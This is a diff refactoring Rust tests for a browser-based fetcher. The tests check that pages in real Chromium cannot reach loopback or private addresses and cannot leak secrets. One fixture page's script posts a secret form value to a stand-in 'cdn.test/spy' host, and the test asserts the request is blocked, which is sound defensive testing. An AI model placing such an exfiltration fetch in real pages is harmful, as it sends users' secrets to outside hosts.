@@ -1,64 +1,45 @@
 //! Attacks by pages in a real Chromium. Here and not in tests/, since only here a host name can be made public.
 
 use std::collections::{BTreeMap, HashMap};
-use std::net::SocketAddr;
-use std::sync::{Arc, Mutex};
+use std::sync::Arc;
 
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
-use tokio::net::{TcpListener, UdpSocket};
-
-use url::Url;
+use tokio::net::UdpSocket;
 
 use super::*;
 use crate::guard::Guard;
 use crate::model::{Failure, Script};
 use crate::robot::cookies::CookieJar;
 use crate::robot::request::RequestBody;
+use crate::robot::tests::server::Server;
+use crate::robot::tests::{PRIVATE, new_session};
 
 /// Far more than any of these needs, so that a busy machine fails none.
 const PLENTY: Duration = Duration::from_secs(90);
 
-/// A server with a response for each path, which records the requests.
-struct BrowserTestServer {
-    address: SocketAddr,
-    heard: Arc<Mutex<Vec<String>>>,
+/// A server with a response for each path. `{here}` in a response is the server's own port. A path without response is
+/// never answered.
+async fn serve(answers: &[(&str, String)]) -> Server {
+    let answers: HashMap<String, String> = answers.iter().map(|(path, it)| ((*path).to_owned(), it.clone())).collect();
+    let answers = Arc::new(answers);
+    Server::serve(PRIVATE, move |mut stream, heard| {
+        let answers = Arc::clone(&answers);
+        async move {
+            let request = read_request(&mut stream).await;
+            let path = request.split([' ', '?']).nth(1).unwrap_or_default().to_owned();
+            heard.lock().expect("nobody panicked").push(request);
+            let here = stream.local_addr().expect("it is connected").port().to_string();
+            match answers.get(&path) {
+                Some(answer) => drop(stream.write_all(answer.replace("{here}", &here).as_bytes()).await),
+                None => std::future::pending().await,
+            }
+        }
+    })
+    .await
 }
 
-impl BrowserTestServer {
-    /// `{here}` in a response is the server's own port. A path without response is never answered.
-    async fn start(answers: &[(&str, String)]) -> BrowserTestServer {
-        let listener = TcpListener::bind("127.0.0.1:0").await.expect("loopback has a free port");
-        let address = listener.local_addr().expect("it is bound");
-        let here = |text: &String| text.replace("{here}", &address.port().to_string());
-        let answers: HashMap<String, String> =
-            answers.iter().map(|(path, it)| ((*path).to_owned(), here(it))).collect();
-        let (answers, heard) = (Arc::new(answers), Arc::new(Mutex::new(Vec::new())));
-        let notes = Arc::clone(&heard);
-        tokio::spawn(async move {
-            while let Ok((mut stream, _)) = listener.accept().await {
-                let (answers, notes) = (Arc::clone(&answers), Arc::clone(&notes));
-                tokio::spawn(async move {
-                    let request = read_request(&mut stream).await;
-                    let path =
-                        request.split(' ').nth(1).unwrap_or_default().split('?').next().unwrap_or_default().to_owned();
-                    notes.lock().expect("nobody panicked").push(request);
-                    match answers.get(&path) {
-                        Some(answer) => drop(stream.write_all(answer.as_bytes()).await),
-                        None => std::future::pending().await,
-                    }
-                });
-            }
-        });
-        BrowserTestServer { address, heard }
-    }
-
-    fn url(&self, host: &str, path: &str) -> Url {
-        Url::parse(&format!("http://{host}:{}{path}", self.address.port())).expect("a URL")
-    }
-
-    fn heard(&self, part: &str) -> bool {
-        self.heard.lock().expect("nobody panicked").iter().any(|it| it.contains(part))
-    }
+fn heard(server: &Server, part: &str) -> bool {
+    server.heard().iter().any(|it| it.contains(part))
 }
 
 async fn read_request(stream: &mut tokio::net::TcpStream) -> String {
@@ -93,7 +74,7 @@ fn redirect_to(location: &str) -> String {
 }
 
 /// A browser for a task, to which `public.test` and `cdn.test` are public, and its session.
-async fn browser(task: &str, server: &BrowserTestServer, jar: CookieJar, time: Duration) -> (Browser, Session) {
+async fn browser(task: &str, server: &Server, jar: CookieJar, time: Duration) -> (Browser, Session) {
     let task: Task =
         toml::from_str(&format!("fetch.engine = 'browser'\nfetch.delay = '0s'\nfetch.robots_txt = false\n{task}"))
             .expect("a task of the test");
@@ -101,15 +82,7 @@ async fn browser(task: &str, server: &BrowserTestServer, jar: CookieJar, time: D
     for host in ["public.test", "cdn.test"] {
         guard.test_overrides.route_host_to(host, server.address);
     }
-    let mut session = Session::new(
-        &task,
-        &BTreeMap::new(),
-        guard,
-        jar,
-        Box::new(crate::robot::StandaloneHost::default()),
-        Instant::now() + time,
-    )
-    .expect("a session");
+    let mut session = new_session(&task, &BTreeMap::new(), guard, jar, time);
     let secrets = Redactor::new(&BTreeMap::from([("key".to_owned(), "hush-hush-7".to_owned())]));
     let browser =
         Browser::start(BrowserPaths::default(), &task, &mut session, secrets).await.expect("Chromium is installed");
@@ -117,6 +90,11 @@ async fn browser(task: &str, server: &BrowserTestServer, jar: CookieJar, time: D
 }
 
 const PUBLIC: &str = "url = 'http://public.test/'\n";
+
+/// Opens a path of the server as `public.test`.
+async fn go(browser: &mut Browser, session: &mut Session, server: &Server, path: &str) -> Result<Page, SessionError> {
+    browser.go(session, PageRequest::get(server.url("public.test", path))).await
+}
 
 fn body(page: &Page) -> String {
     String::from_utf8_lossy(&page.body).into_owned()
@@ -143,10 +121,10 @@ fn attempts(host: &str, tcp: u16, udp: u16) -> String {
 
 #[tokio::test]
 async fn a_page_reaches_no_private_address_whatever_it_tries() {
-    let canary = BrowserTestServer::start(&[]).await;
+    let canary = serve(&[]).await;
     let udp = UdpSocket::bind("127.0.0.1:0").await.expect("loopback has a free port");
     let (tcp_port, udp_port) = (canary.address.port(), udp.local_addr().expect("it is bound").port());
-    let own = BrowserTestServer::start(&[
+    let own = serve(&[
         ("/a", html(&attempts("127.0.0.1", tcp_port, udp_port))),
         ("/b", html(&attempts("localhost", tcp_port, udp_port))),
         ("/c", html(&attempts("[::ffff:127.0.0.1]", tcp_port, udp_port))),
@@ -158,28 +136,27 @@ async fn a_page_reaches_no_private_address_whatever_it_tries() {
     let hosts = "fetch.allow_hosts = ['public.test', '127.0.0.1', 'localhost', '[::ffff:7f00:1]']";
     let (mut browser, mut session) = browser(hosts, &own, CookieJar::default(), PLENTY).await;
     for path in ["/a", "/b", "/c"] {
-        let page = browser.go(&mut session, PageRequest::get(own.url("public.test", path))).await.expect("a page");
+        let page = go(&mut browser, &mut session, &own, path).await.expect("a page");
         assert!(body(&page).contains("<h1>here</h1>"), "{}", body(&page));
         assert!(!session.log.iter().any(|line| line.text.contains("still busy")), "{:?}", session.log);
     }
     for path in ["/found", "/script", "/refresh"] {
-        let error =
-            browser.go(&mut session, PageRequest::get(own.url("public.test", path))).await.expect_err("refused");
+        let error = go(&mut browser, &mut session, &own, path).await.expect_err("refused");
         assert_eq!(error.cause(), Failure::Network, "{path}: {error}");
         assert!(error.to_string().contains("fetch.allow_private"), "{path}: {error}");
     }
     let error = browser.go(&mut session, PageRequest::get(canary.url("127.0.0.1", "/"))).await.expect_err("refused");
     assert_eq!(error.cause(), Failure::Network, "{error}");
     browser.end().await;
-    assert_eq!(*canary.heard.lock().expect("nobody panicked"), Vec::<String>::new());
+    assert_eq!(canary.heard(), Vec::<String>::new());
     assert!(udp.try_recv(&mut [0; 64]).is_err(), "and no packet came either");
 }
 
 #[tokio::test]
 async fn what_is_allowed_at_home_is_not_allowed_elsewhere() {
-    let canary = BrowserTestServer::start(&[]).await;
+    let canary = serve(&[]).await;
     let port = canary.address.port();
-    let own = BrowserTestServer::start(&[
+    let own = serve(&[
         ("/", html(&attempts("localhost", port, port))),
         (
             "/cdn",
@@ -198,13 +175,13 @@ async fn what_is_allowed_at_home_is_not_allowed_elsewhere() {
     let page = browser.go(&mut session, PageRequest::get(own.url("127.0.0.1", "/cdn"))).await.expect("a page");
     assert!(body(&page).contains("from the cdn"), "a script of a public host is loaded: {}", body(&page));
     browser.end().await;
-    assert_eq!(*canary.heard.lock().expect("nobody panicked"), Vec::<String>::new(), "localhost is not 127.0.0.1");
-    assert!(!own.heard("GET /frame"), "a document of another host is not");
+    assert_eq!(canary.heard(), Vec::<String>::new(), "localhost is not 127.0.0.1");
+    assert!(!heard(&own, "GET /frame"), "a document of another host is not");
 }
 
 #[tokio::test]
 async fn bad_pages_end_in_named_outcomes() {
-    let own = BrowserTestServer::start(&[
+    let own = serve(&[
         ("/busy", html("<script>for (;;) {}</script>")),
         ("/loop", redirect_to("/loop")),
         ("/wander", html("<script>location = '/wander?' + Math.random()</script>")),
@@ -236,27 +213,26 @@ async fn bad_pages_end_in_named_outcomes() {
         ("/file", Failure::Http, "to be downloaded"),
         ("/large", Failure::Limit, "is larger than 2M"),
     ] {
-        let error = browser.go(&mut session, PageRequest::get(own.url("public.test", path))).await.expect_err(path);
+        let error = go(&mut browser, &mut session, &own, path).await.expect_err(path);
         assert_eq!(error.cause(), cause, "{path}: {error}");
         assert!(error.to_string().contains(sentence), "{path}: {error}");
     }
-    let page = browser.go(&mut session, PageRequest::get(own.url("public.test", "/dialogs"))).await.expect("a page");
+    let page = go(&mut browser, &mut session, &own, "/dialogs").await.expect("a page");
     assert!(body(&page).contains("after all"));
-    let page = browser.go(&mut session, PageRequest::get(own.url("public.test", "/gone"))).await.expect("a page");
+    let page = go(&mut browser, &mut session, &own, "/gone").await.expect("a page");
     assert_eq!(page.meta.status, 404);
-    let page = browser.go(&mut session, PageRequest::get(own.url("public.test", "/json"))).await.expect("a page");
+    let page = go(&mut browser, &mut session, &own, "/json").await.expect("a page");
     assert_eq!(body(&page), "{\"a\": [1, 2]}", "as it came");
-    let busy = browser.go(&mut session, PageRequest::get(own.url("public.test", "/busy"))).await.expect_err("busy");
+    let busy = go(&mut browser, &mut session, &own, "/busy").await.expect_err("busy");
     assert_eq!(busy.cause(), Failure::Timeout, "{busy}");
     browser.end().await;
 }
 
 #[tokio::test]
 async fn a_page_that_never_comes_ends_with_the_runs_time() {
-    let own = BrowserTestServer::start(&[]).await;
+    let own = serve(&[]).await;
     let (mut browser, mut session) = browser(PUBLIC, &own, CookieJar::default(), Duration::from_secs(8)).await;
-    let error =
-        browser.go(&mut session, PageRequest::get(own.url("public.test", "/never"))).await.expect_err("it never comes");
+    let error = go(&mut browser, &mut session, &own, "/never").await.expect_err("it never comes");
     assert_eq!(error.cause(), Failure::Timeout, "{error}");
     browser.end().await;
 }
@@ -269,7 +245,7 @@ async fn cookies_headers_and_forms_go_out_as_with_the_other_engine() {
         await fetch('/sent', { method: 'POST', body: new FormData(f).get('user') });\
         fetch('http://cdn.test:{here}/spy', { method: 'POST', body: new FormData(f).get('user') }).catch(() => 0); \
         document.body.append('done') }</script>";
-    let own = BrowserTestServer::start(&[
+    let own = serve(&[
         (
             "/set",
             answer(
@@ -288,8 +264,8 @@ async fn cookies_headers_and_forms_go_out_as_with_the_other_engine() {
     jar.store("old=1; Path=/", &own.url("public.test", "/"));
     let task = "fetch.allow_hosts = ['public.test']";
     let (mut chrome, mut session) = browser(task, &own, jar, PLENTY).await;
-    chrome.go(&mut session, PageRequest::get(own.url("public.test", "/set"))).await.expect("a page");
-    assert!(own.heard("Cookie: old=1"), "{:?}", own.heard);
+    go(&mut chrome, &mut session, &own, "/set").await.expect("a page");
+    assert!(heard(&own, "Cookie: old=1"), "{:?}", own.heard());
     let cookies = session.jar.header(&own.url("public.test", "/"));
     assert_eq!(cookies.as_deref(), Some("js=3; old=1; sid=2"), "what the browser has goes back into the jar");
 
@@ -299,11 +275,11 @@ async fn cookies_headers_and_forms_go_out_as_with_the_other_engine() {
     let error = chrome.go(&mut session, post).await.expect_err("another host");
     assert!(error.to_string().contains("cdn.test"), "{error}");
     for part in ["POST /post", "for public.test", "application/json", "{\"a\":1}"] {
-        assert!(own.heard(part), "{part}");
+        assert!(heard(&own, part), "{part}");
     }
-    assert!(!own.heard("/elsewhere") && !own.heard("favicon"), "{:?}", own.heard);
+    assert!(!heard(&own, "/elsewhere") && !heard(&own, "favicon"), "{:?}", own.heard());
 
-    let page = chrome.go(&mut session, PageRequest::get(own.url("public.test", "/form"))).await.expect("a page");
+    let page = go(&mut chrome, &mut session, &own, "/form").await.expect("a page");
     let tree = crate::page::Tree::parse(&body(&page));
     let values =
         [("user", "hush-hush-7"), ("town", "Halifax")].map(|(name, value)| (name.to_owned(), value.to_owned()));
@@ -313,7 +289,7 @@ async fn cookies_headers_and_forms_go_out_as_with_the_other_engine() {
     let request = PageRequest { browser_input: Some(filling), ..PageRequest::get(page.meta.url.clone()) };
     let page = chrome.go(&mut session, request).await.expect("the page's script sends it");
     assert!(body(&page).contains("done"), "{}", body(&page));
-    assert!(own.heard("hush-hush-7"));
-    assert!(!own.heard("POST /spy"), "a secret goes to no other host");
+    assert!(heard(&own, "hush-hush-7"));
+    assert!(!heard(&own, "POST /spy"), "a secret goes to no other host");
     chrome.end().await;
 }
